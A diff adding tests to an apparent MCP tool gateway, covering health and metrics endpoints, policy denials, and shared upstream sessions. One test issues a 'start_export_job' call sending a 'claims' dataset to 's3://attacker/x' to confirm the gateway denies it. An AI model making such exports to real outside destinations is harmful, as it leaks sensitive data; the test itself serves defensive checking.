@@ -361,3 +361,77 @@ async def test_jwt_agents_get_their_own_limits(tmp_path, mode, revision):
         gateway.stop()
     assert outcomes == {"jwt-one": [False, False, True], "jwt-two": [False, False, True]}
     assert refused.status_code == 401 and "expired" in refused.json()["error"]["message"]
+
+
+async def test_gateway_serves_health_and_metrics(gateway, keys):
+    import httpx2
+
+    async with gateway_client(gateway.url("demo"), keys["alice"][0], mode="legacy") as client:
+        # Tool names become labels once the upstream has listed them; others count as (unlisted).
+        await client.list_tools()
+        await client.call_tool("read_record", {"id": "r-1"})
+        await client.call_tool("start_export_job", {"destination_uri": "s3://attacker/x", "dataset": "claims"})
+    base = f"http://127.0.0.1:{gateway.port}"
+    with httpx2.Client(timeout=10) as http:
+        health = http.get(f"{base}/healthz")
+        metrics = http.get(f"{base}/metrics").text
+    assert health.status_code == 200
+    series = {line.rsplit(" ", 1)[0]: float(line.rsplit(" ", 1)[1]) for line in metrics.splitlines() if line.startswith("warden_tool_calls_total{")}
+    allowed = [value for name, value in series.items() if 'server="demo"' in name and 'tool="read_record"' in name and 'decision="allowed"' in name]
+    denied = [value for name, value in series.items() if 'tool="start_export_job"' in name and 'decision="denied"' in name]
+    assert allowed == [1.0], metrics
+    assert denied == [1.0], metrics
+
+
+async def test_shared_upstream_serves_every_session_from_one_process(tmp_path, keys):
+    import sys
+
+    config = (
+        'store: "memory:"\nservers:\n'
+        "  fragile:\n"
+        f"    command: {json.dumps([sys.executable, str(FRAGILE)])}\n"
+        "    upstream: shared\n"
+        "    policy: {version: 1, default: allow}\n"
+        "  demo:\n"
+        f"    command: {json.dumps(demo_server_command())}\n"
+        "    upstream: shared\n"
+        f"    policy:\n{indent(DEMO_POLICY, 6)}\n"
+        f'agents:\n  - id: alice\n    key_sha256: "{keys["alice"][1]}"\n  - id: bob\n    key_sha256: "{keys["bob"][1]}"\n'
+    )
+    gateway = Gateway(tmp_path, config)
+    try:
+        url = gateway.url("fragile")
+        answers = []
+        for agent in ("alice", "bob"):
+            key = keys[agent][0]
+            session = raw_post(url, INITIALIZE, key=key).headers["mcp-session-id"]
+            raw_post(url, {"jsonrpc": "2.0", "method": "notifications/initialized"}, key=key, headers={"Mcp-Session-Id": session})
+            # Both sessions use id 2: the shared process must not mix them up.
+            answers.append(call(url, key, session, 2, "whoami"))
+
+        # Two clients at once on the shared demo server, each following its own progress.
+        import anyio
+
+        updates: dict[str, list[float]] = {"alice": [], "bob": []}
+        results: dict[str, str] = {}
+
+        async def run(agent: str) -> None:
+            async def on_progress(progress: float, total: float | None, message: str | None) -> None:
+                updates[agent].append(progress)
+
+            async with gateway_client(gateway.url("demo"), keys[agent][0], mode="legacy") as client:
+                result = await client.call_tool("slow_task", {"steps": 3}, progress_callback=on_progress)
+                results[agent] = result_text(result)
+
+        async with anyio.create_task_group() as group:
+            group.start_soon(run, "alice")
+            group.start_soon(run, "bob")
+        log = gateway.log()
+    finally:
+        gateway.stop()
+    texts = [answer["result"]["content"][0]["text"] for answer in answers]
+    assert [answer["id"] for answer in answers] == [2, 2]
+    assert texts[0] == texts[1], "both sessions should be served by the same process"
+    assert texts[0].endswith("initialized=True")
+    assert results == {"alice": "Finished 3 steps", "bob": "Finished 3 steps"}
+    assert updates == {"alice": [1, 2, 3], "bob": [1, 2, 3]}, log[-2000:]
